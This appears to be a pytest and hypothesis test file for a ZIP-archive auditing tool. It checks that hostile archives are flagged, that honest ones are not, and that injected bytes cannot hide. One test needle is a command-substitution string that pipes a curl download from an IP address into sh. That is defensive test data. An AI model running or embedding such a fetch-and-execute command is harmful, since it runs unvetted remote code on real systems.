from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path
from typing import Final

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from dten_audit.documents.budget import Limits
from dten_audit.documents.errors import PackageError
from dten_audit.documents.zip.directory import read_directory
from dten_audit.examples.zip_writer import ZipMember, write_zip

from .hostile_zips import HOSTILE
from .opening import Opening, open_bytes
from .zip_cases import CANARY, LINK, Case, plain, split


@pytest.mark.parametrize("case", HOSTILE, ids=[case.name for case in HOSTILE])
def test_each_lie_is_told_and_every_reading_read(case: Case, tmp_path: Path) -> None:
    opening = open_bytes(case.data(), tmp_path)
    assert opening.names == set(case.issues.split())
    assert opening.reasons == set(case.gaps.split())
    assert {path for path, data in opening.tree.items() if CANARY in data} == set(
        case.found.split()
    )


def test_members_counted_modulo_65536_are_all_listed() -> None:
    body, table = split(write_zip([ZipMember("a.sql", CANARY)]))
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 2, 2, 65538 * len(table), len(body), 0)
    directory = read_directory(body + table * 65538 + end, Limits())
    assert directory is not None
    assert [problem.issue for problem in directory.problems] == ["count-mismatch"]
    assert len(directory.entries) == 65538


def from_library(method: int) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        archive.writestr("a.sql", b"SELECT 1;\n" * 20)
        archive.writestr("b/é.txt", b"second")
        archive.comment = b"built by CI"
    return stream.getvalue()


TIMES: Final = struct.pack("<HH5s", 0x5455, 5, b"\1abcd")
PLAIN: Final = [
    ZipMember("bin/x.sh", b"#!/bin/sh\nexit 0\n", extra=TIMES, local_extra=TIMES),
    ZipMember("l", b"bin/x.sh", attributes=LINK),
    ZipMember("d/", attributes=0o40755 << 16),
]
HONEST: Final = [
    from_library(zipfile.ZIP_STORED),
    from_library(zipfile.ZIP_DEFLATED),
    write_zip([*plain(streamed=True), *PLAIN]),
    write_zip(plain(comment=b"of a member"), zip64=True, comment=b"of the archive"),
    write_zip([ZipMember("in.zip", write_zip(PLAIN), stored=True), *plain()]),
    write_zip([ZipMember("in.zip", from_library(zipfile.ZIP_DEFLATED)), *plain()]),
    write_zip(plain(), comment=b"0" * 40),
]
NEEDLE: Final = b"$(curl http://203.0.113.5/x | sh)"[:32]


def shows(opening: Opening, needle: bytes) -> bool:
    """Tell whether bytes are in a document or a path that came out."""
    in_path = any(needle in path.encode() for path in opening.tree)
    return in_path or any(needle in data for data in opening.tree.values())


@settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=400
)
@example(archive=HONEST[0], place=0, needle=NEEDLE)
@given(
    archive=st.sampled_from(HONEST),
    place=st.integers(0, 2000),
    needle=st.one_of(st.just(NEEDLE), st.binary(min_size=32, max_size=32)),
)
def test_nothing_inserted_hides(tmp_path: Path, archive: bytes, place: int, needle: bytes) -> None:
    at = place % (len(archive) + 1)
    try:
        opening = open_bytes(archive[:at] + needle + archive[at:], tmp_path)
    except PackageError:
        return
    assert opening.issues or opening.gaps or shows(opening, needle)


@pytest.mark.parametrize("archive", HONEST)
def test_nothing_is_told_of_honest_archives(archive: bytes, tmp_path: Path) -> None:
    opening = open_bytes(archive, tmp_path)
    assert not opening.issues
    assert not opening.gaps
